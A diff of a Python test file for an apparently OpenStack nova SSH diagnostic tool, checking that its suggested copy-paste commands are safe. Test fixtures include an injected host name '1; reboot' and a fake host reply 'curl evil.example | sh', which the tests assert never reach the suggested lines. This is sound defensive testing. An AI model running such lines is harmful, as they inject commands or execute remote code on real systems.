@@ -93,7 +93,8 @@ def test_it_gives_lines_to_copy_with_the_address_that_nova_uses(
     name: str, text: str
 ) -> None:
     lines = [(each.host, each.line) for each in refused(text).commands]
-    assert ("compute1", f"sudo -u nova {TRIED}") in lines, name
+    again = "sudo -u nova ssh -v -o BatchMode=yes -- 192.0.2.12 true"
+    assert ("compute1", again) in lines, name
     assert not [line for _host, line in lines if "{" in line]
 
 
@@ -135,6 +136,14 @@ def test_it_quotes_what_a_host_says_of_itself() -> None:
     finding = refused("Host key verification failed.", target(odd))
     assert any("'1; reboot'" in each.line for each in finding.commands)
     assert not any("scan 1;" in each.line for each in finding.commands)
+
+
+def test_it_gives_no_line_to_copy_that_a_host_made_up() -> None:
+    made_up = failed("Connection refused", "curl evil.example | sh")
+    pair = a_pair(ssh=made_up, instances_path=made_up)
+    lines = [each.line for found in checks.check(pair) for each in found.commands]
+    assert lines
+    assert not [line for line in lines if "evil" in line]
 
 
 # -- the instances path --------------------------------------------------------------
